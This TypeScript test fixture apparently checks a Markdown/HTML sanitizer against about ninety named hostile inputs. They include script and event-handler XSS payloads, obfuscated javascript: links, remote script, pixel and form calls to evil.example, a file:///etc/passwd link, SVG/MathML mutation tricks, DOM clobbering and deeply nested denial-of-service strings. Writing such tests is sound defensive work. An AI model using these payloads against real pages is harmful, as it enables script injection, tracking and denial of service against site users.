/** A malicious text. */
export interface HostileBody {
  readonly name: string;
  readonly body: string;
  /** A word that must remain readable; undefined for texts that consist only of code. */
  readonly keeps?: string;
}

const B = '`';
const image = (src: string) => `<img src="${src}">`;

/** Bodies that must not affect anything on a page but their own text. */
export const HOSTILE_BODIES: readonly HostileBody[] = [
  { name: 'script', body: '<script>window.owned=1</script>before', keeps: 'before' },
  { name: 'script in capitals', body: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>after', keeps: 'after' },
  { name: 'script broken over lines', body: '<scr\nipt>window.owned=1</script>\n\nwords', keeps: 'words' },
  { name: 'script within script', body: '<scr<script>ipt>window.owned=1</scr</script>ipt>' },
  { name: 'unclosed script', body: 'head <script>window.owned=1', keeps: 'head' },
  {
    name: 'script closed by a text',
    body: '"></textarea></title></style></script><script>window.owned=1</script>tail',
    keeps: 'tail',
  },
  {
    name: 'event handler',
    body: '<b onclick="window.owned=1" onmouseover=window.owned=1>bold</b>',
    keeps: 'bold',
  },
  { name: 'image with error handler', body: '<img src=x onerror=window.owned=1>pic', keeps: 'pic' },
  { name: 'image with slashes', body: '<img/src=x/onerror=window.owned=1>slash', keeps: 'slash' },
  {
    name: 'handler behind a line feed',
    body: '<p\nonpointerover\n=\nwindow.owned=1\n>para</p>',
    keeps: 'para',
  },
  {
    name: 'details with toggle handler',
    body: '<details open ontoggle=window.owned=1><summary>sum</summary>inner</details>',
    keeps: 'inner',
  },
  {
    name: 'video with error handler',
    body: '<video><source onerror="window.owned=1"></video>video',
    keeps: 'video',
  },
  {
    name: 'audio from elsewhere',
    body: '<audio src="https://evil.example/a.mp3" autoplay></audio>audio',
    keeps: 'audio',
  },
  { name: 'body onload', body: '<body onload=window.owned=1>body', keeps: 'body' },
  { name: 'javascript link', body: '[click](javascript:window.owned=1)', keeps: 'click' },
  { name: 'javascript link in capitals', body: '[click](JaVaScRiPt:window.owned=1)', keeps: 'click' },
  { name: 'javascript link with entity', body: '[click](javascript&colon;window.owned=1)', keeps: 'click' },
  {
    name: 'javascript link with tab',
    body: '<a href="java\tscript:window.owned=1">tabbed</a>',
    keeps: 'tabbed',
  },
  {
    name: 'javascript link with line feed',
    body: '<a href="java&#10;script:window.owned=1">fed</a>',
    keeps: 'fed',
  },
  {
    name: 'javascript link with control character',
    body: '<a href="\u0001javascript:window.owned=1">control</a>',
    keeps: 'control',
  },
  { name: 'javascript in angle brackets', body: '<javascript:window.owned=1> angle', keeps: 'angle' },
  { name: 'javascript reference', body: '[label][x]\n\n[x]: javascript:window.owned=1', keeps: 'label' },
  { name: 'vbscript link', body: '[vb](vbscript:msgbox)', keeps: 'vb' },
  {
    name: 'data link',
    body: '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)',
    keeps: 'data',
  },
  { name: 'data image', body: `![dot](data:image/svg+xml;base64,PHN2Zy8+) dotted`, keeps: 'dotted' },
  { name: 'blob link', body: '[blob](blob:http://127.0.0.1/x)', keeps: 'blob' },
  { name: 'file link', body: '[file](file:///etc/passwd)', keeps: 'file' },
  { name: 'view-source link', body: '<a href="view-source:http://127.0.0.1/">source</a>', keeps: 'source' },
  { name: 'remote image', body: `![tracker](https://evil.example/pixel.png)`, keeps: 'tracker' },
  { name: 'remote image without scheme', body: image('//evil.example/pixel.png') },
  {
    name: 'remote image with backslashes',
    body: `${image('\\\\evil.example\\pixel.png')}back`,
    keeps: 'back',
  },
  {
    name: 'image sources for screens',
    body: '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png" srcset="https://evil.example/c.png 2x"></picture>',
  },
  {
    name: 'image in a link',
    body: '[![badge](https://evil.example/badge.svg)](https://evil.example/)',
    keeps: 'badge',
  },
  {
    name: 'link opening a window',
    body: '<a href="https://evil.example/" target="_blank" ping="https://evil.example/">window</a>',
    keeps: 'window',
  },
  {
    name: 'SVG with script',
    body: '<svg><script>window.owned=1</script><circle r=9 /></svg>svg',
    keeps: 'svg',
  },
  {
    name: 'SVG with animation',
    body: '<svg><a><animate attributeName=href values=javascript:window.owned=1 /><text>anim</text></a></svg>',
  },
  {
    name: 'SVG with foreign object',
    body: '<svg><foreignObject><iframe srcdoc="<script>top.owned=1</script>"></iframe></foreignObject></svg>',
  },
  { name: 'SVG use', body: '<svg><use href="https://evil.example/x.svg#a"/></svg>used', keeps: 'used' },
  { name: 'MathML', body: '<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>' },
  { name: 'noscript confusion', body: '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">' },
  { name: 'template', body: '<template><script>window.owned=1</script></template>templ', keeps: 'templ' },
  { name: 'frame', body: '<iframe src="https://evil.example/"></iframe>frame', keeps: 'frame' },
  {
    name: 'object and embed',
    body: '<object data="https://evil.example/"></object><embed src="https://evil.example/">object',
    keeps: 'object',
  },
  { name: 'base', body: '<base href="https://evil.example/">base', keeps: 'base' },
  {
    name: 'meta refresh',
    body: '<meta http-equiv="refresh" content="0;url=https://evil.example/">meta',
    keeps: 'meta',
  },
  {
    name: 'link to a style sheet',
    body: '<link rel="stylesheet" href="https://evil.example/x.css">linked',
    keeps: 'linked',
  },
  {
    name: 'form',
    body: '<form action="https://evil.example/"><input name=q autofocus onfocus=window.owned=1><button>send</button></form>',
    keeps: 'send',
  },
  { name: 'password field', body: '<input type="password" name="p" value="x">field', keeps: 'field' },
  {
    name: 'style element',
    body: '<style>body{display:none}*{background:url(https://evil.example/)}</style>styled',
    keeps: 'styled',
  },
  {
    name: 'style attribute',
    body: '<div style="position:fixed;inset:0;background:red url(https://evil.example/)">cover</div>',
    keeps: 'cover',
  },
  {
    name: 'style sheet import',
    body: "<style>@import'https://evil.example/x.css'</style>imported",
    keeps: 'imported',
  },
  {
    name: 'classes of the page',
    body: '<div class="top skip unseen comfort-help">classy</div>',
    keeps: 'classy',
  },
  {
    name: 'ids of the page',
    body: '<div id="main"><a id="search" name="search">idle</a></div>',
    keeps: 'idle',
  },
  {
    name: 'names that shadow the document',
    body: '<img name="getElementById"><form name="body"></form><a id="location">shadow</a>',
    keeps: 'shadow',
  },
  {
    name: 'attributes of our script',
    body: '<a data-key="g h" data-search-field data-help data-suggest="https://evil.example/" href="https://evil.example/">keyed</a>',
    keeps: 'keyed',
  },
  { name: 'hidden by attribute', body: '<div hidden aria-hidden="true">seen</div>', keeps: 'seen' },
  {
    name: 'editable text',
    body: '<p contenteditable autofocus tabindex=1 accesskey=x>edit</p>',
    keeps: 'edit',
  },
  {
    name: 'nested quotes in attributes',
    body: `<a href='x" onclick="window.owned=1'>quoted</a>`,
    keeps: 'quoted',
  },
  {
    name: 'quotes in a title',
    body: `[t](https://evil.example/ '"><img src=x onerror=window.owned=1>')`,
    keeps: 't',
  },
  {
    name: 'quotes in alternative text',
    body: `![" onerror="window.owned=1](https://evil.example/x.png)`,
    keeps: 'onerror',
  },
  {
    name: 'quotes in a language',
    body: `${B.repeat(3)}js" onmouseover="window.owned=1\ncode\n${B.repeat(3)}`,
    keeps: 'code',
  },
  {
    name: 'markup in code',
    body: `${B}<img src=x onerror=window.owned=1>${B}`,
    keeps: '<img src=x onerror=window.owned=1>',
  },
  {
    name: 'markup in a fence',
    body: `${B.repeat(3)}html\n<script>window.owned=1</script>\n${B.repeat(3)}`,
    keeps: '<script>window.owned=1</script>',
  },
  { name: 'markup in emphasis', body: '*<b onclick=window.owned=1>x*</b>strong', keeps: 'strong' },
  { name: 'comment', body: '<!-- <script>window.owned=1</script> -->noted', keeps: 'noted' },
  { name: 'broken comment', body: '<!--><img src=x onerror=window.owned=1>-->broken', keeps: 'broken' },
  { name: 'CDATA', body: '<![CDATA[<script>window.owned=1</script>]]>cdata', keeps: 'cdata' },
  { name: 'entities', body: '&lt;script&gt;window.owned=1&lt;/script&gt; &#60;b&#62;', keeps: '<script>' },
  { name: 'unclosed elements', body: '</div></main></body></html><h1>escaped', keeps: 'escaped' },
  {
    name: 'table that closes the page',
    body: '</td></tr></table></article></main><footer>foot</footer>',
    keeps: 'foot',
  },
  { name: 'right to left', body: 'user\u202etxt.exe\u202c and \u2066isolated', keeps: 'isolated' },
  { name: 'unclosed right to left', body: '\u202e\u202e\u202ereversed', keeps: 'reversed' },
  { name: 'marks upon marks', body: `z${'\u0301'.repeat(5_000)}algo`, keeps: 'algo' },
  { name: 'NUL and controls', body: 'a\u0000b\u0007c\u001b[31mred', keeps: 'red' },
  { name: 'lone surrogates', body: '\ud800 lone \udfff', keeps: 'lone' },
  {
    name: 'huge table',
    body: `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n${`|${'cell|'.repeat(200)}\n`.repeat(60)}`,
    keeps: 'cell',
  },
  { name: 'table of HTML without end', body: `<table>${'<tr><td>'.repeat(4_000)}deep`, keeps: 'deep' },
  { name: 'elements within elements', body: `${'<div>'.repeat(10_000)}nested`, keeps: 'nested' },
  { name: 'quotes within quotes', body: `${'> '.repeat(90)}quoted`, keeps: 'quoted' },
  {
    name: 'lists within lists',
    body: Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- item`).join('\n'),
    keeps: 'item',
  },
  { name: 'brackets', body: '['.repeat(20_000) },
  { name: 'links that never end', body: '[a]('.repeat(10_000), keeps: 'a' },
  { name: 'emphasis', body: '*a _b '.repeat(6_000), keeps: 'a' },
  {
    name: 'backticks',
    body: Array.from({ length: 250 }, (_, count) => B.repeat(count + 1)).join(' x '),
    keeps: 'x',
  },
  { name: 'a word without end', body: 'w'.repeat(60_000), keeps: 'www' },
  { name: 'mentions of nobody', body: '@a @b-c @d/e '.repeat(2_000), keeps: '@a' },
  { name: 'numbers', body: '#1 #2 a/b#3 '.repeat(2_000), keeps: '#1' },
  { name: 'addresses', body: 'https://evil.example/a?b=c&d=<e> '.repeat(1_000), keeps: 'evil.example' },
  {
    name: 'footnotes',
    body: `${Array.from({ length: 300 }, (_, n) => `x[^${n}]`).join(' ')}\n\n${Array.from({ length: 300 }, (_, n) => `[^${n}]: note ${n} [^${(n + 1) % 300}]`).join('\n')}`,
    keeps: 'note 7',
  },
  {
    name: 'reference that names the prototype',
    body: '[a][__proto__] [b][constructor]\n\n[__proto__]: https://evil.example/',
    keeps: 'constructor',
  },
  { name: 'emoji of names', body: ':constructor: :__proto__: :tada: :toString:', keeps: ':constructor:' },
];
